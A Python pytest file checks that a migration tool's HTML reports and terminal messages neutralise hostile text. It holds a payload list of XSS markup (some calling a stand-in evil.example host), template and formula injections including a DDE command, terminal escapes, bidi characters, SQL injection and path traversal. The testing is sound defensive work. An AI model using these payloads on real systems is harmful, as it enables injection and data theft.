"""Hostile text through every field: a parser finds the same elements as with harmless text, and nobody is deceived."""

from collections.abc import Callable, Mapping
from typing import Any

import pytest

from mamigrate.findings import Finding, Severity
from mamigrate.model.base import EstateObject
from mamigrate.model.kinds import Kind
from mamigrate.reports import build_sheet, render
from mamigrate.reports.build_sheet import Handed
from mamigrate.reports.messages import Messages
from markup import elements, words

Facts = dict[str, Any]
Estate = Mapping[Kind, list[EstateObject]]

SCRIPTS = ["alert(1)", "fetch('//evil.example')", "document.body.innerHTML=''"]
MARKUP = [
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    '"><img src=x onerror={}>',
    "'><svg/onload={}>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</span></td></table><script>{}</script>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<a href='javascript:{}'>click</a>",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<math><mtext><style><img src onerror={}>",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    '" onmouseover="{}',
    "' onfocus='{}' autofocus='",
    "<object data='data:text/html,<script>{}</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=javascript:{}//>",
    "<link rel=stylesheet href=//evil.example/{}>",
    "<form action=//evil.example/{}><input name=x>",
    "<style>@import '//evil.example/{}'</style>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><script>{}</script>'>",
    "<tspan onclick={}>x</tspan>",
    "&lt;script&gt;{}&lt;/script&gt;",
]
TEMPLATES = [
    "{{7*7}}",
    "{% for x in range(9) %}x{% endfor %}",
    "{# gone #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ ''.__class__.__mro__ }}",
    "{{ config }}",
    "{0.__class__}",
    "{subject.__class__}",
    "%(subject)s",
    "{{request.application.__globals__}}",
    "{unknown}",
    "{",
    "}}",
]
TERMINAL = [
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[31mred\x1b[0m",
    "\x9b31m",
    "fine\rFAIL",
    "a\x08\x08b",
    "\x00",
    "\x7f",
    "\x1bPq#0\x1b\\",
    "line\nblock: forged",
    "\x0b\x0c",
]
BIDI = [f"a{char}b" for char in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"]
FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://evil.example")', "＝1", "\t=1", "=cmd|'/C calc'!A0"]
ODD = [
    "x" * 20000,
    "𝕳𝖊𝖑𝖑𝖔",
    "\ufeffbom",
    "zero\u200bwidth",
    "'; drop table person; --",
    "../../../etc/passwd",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\u2028line",
    "&#60;script&#62;",
    "&amp;lt;",
    "]]>",
    "-->",
    "\\u003cscript\\u003e",
    "%3Cscript%3E",
    "＜script＞alert(1)＜/script＞",
]
PAYLOADS = [form.replace("{}", script) for form in MARKUP for script in SCRIPTS] + TEMPLATES + TERMINAL
PAYLOADS += [*BIDI, *FORMULAS, *ODD]

OURS = frozenset({"state", "severity", "began_at", "ended_at", "settled_due", "time_zone", "page", "consent"})
"""Facts that the program itself words: states, moments, names of its own files."""
UNSEEN = ("\x1b", "\x00", "\x08", "\r", "\x7f", "\x9b", "\u202e", "\u2066", "\u200b", "\ufeff")


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 150


def filled(tree: Any, text: str) -> Any:
    """``tree`` with every text in it replaced."""
    if isinstance(tree, dict):
        return {key: inner if key in OURS else filled(inner, text) for key, inner in tree.items()}
    if isinstance(tree, list):
        return [filled(inner, text) for inner in tree]
    return text if isinstance(tree, str) else tree


@pytest.mark.parametrize("state", ["loaded", "blocked"])
def test_no_text_of_a_run_becomes_an_element_or_a_handler(states: dict[str, Facts], state: str) -> None:
    facts = states[state] | {"decisions_open": [{"id": "x", "safe": "y"}]}
    plain = elements(render.run_page(filled(facts, "plain text"), "en", ())).found
    for payload in PAYLOADS:
        page = render.run_page(filled(facts, payload), "en", ())
        assert elements(page).found == plain, payload
        assert not any(char in page for char in UNSEEN), payload


def test_no_text_of_the_estate_becomes_an_element_or_a_handler(
    loaded: Facts, estate: Callable[[str], Estate], handed: dict[Kind, list[Handed]]
) -> None:
    def pages(text: str) -> str:
        made = build_sheet.sheets(estate(text), handed, unmask=True)
        facts = filled(loaded, text)
        return "".join(render.build_page(kind, sheets, facts, "en", ()) for kind, sheets in made.items())

    plain = elements(pages("plain text")).found
    for payload in PAYLOADS:
        page = pages(payload)
        assert elements(page).found == plain, payload
        assert not any(char in page for char in UNSEEN), payload


def test_a_template_in_a_name_is_shown_as_it_is(loaded: Facts) -> None:
    loaded["reach"]["before"] = loaded["census"]["allowed_and_mailable"] = 1
    said = " ".join(words(render.run_page(filled(loaded, "{{7*7}} ${7*7} {0}"), "en", ()), "en"))
    assert "{{7*7}} ${7*7} {0}" in said
    assert "49" not in said


def test_no_text_moves_the_cursor_of_a_terminal_or_forges_a_line() -> None:
    messages = Messages.of("hubspot", "marketo")
    for payload in PAYLOADS:
        found = Finding("live_automation", Severity.BLOCK, payload, {"name": payload, "id": payload})
        for lang in ("en", "ja", "ko"):
            said = messages.say(found, lang)
            assert said.isprintable() or "\n" not in said, payload
            assert not any(char in said for char in (*UNSEEN, "\n")), payload
